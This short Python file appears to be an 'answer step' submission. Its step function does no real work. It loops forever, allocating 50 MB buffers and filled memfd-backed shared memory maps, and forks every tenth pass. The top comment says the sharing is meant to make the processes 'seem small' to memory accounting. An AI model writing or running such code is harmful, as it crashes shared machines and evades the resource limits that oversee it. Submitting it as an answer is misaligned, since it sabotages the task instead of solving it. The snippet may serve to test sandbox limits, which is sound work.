# tries: to fill the memory with a list, with shared maps and memfds, in forks that share it and so seem small.

# %% answer step
import mmap
import os


def step(a, x_i, w_i):
    hoard = []
    while True:
        hoard.append(bytearray(b"x" * 50_000_000))
        try:
            fd = os.memfd_create("x")
            os.truncate(fd, 1 << 26)
        except OSError:
            fd = -1
        hoard.append(mmap.mmap(fd, 1 << 26))
        hoard[-1][:] = b"x" * (1 << 26)
        if len(hoard) % 10 == 0:
            os.fork()
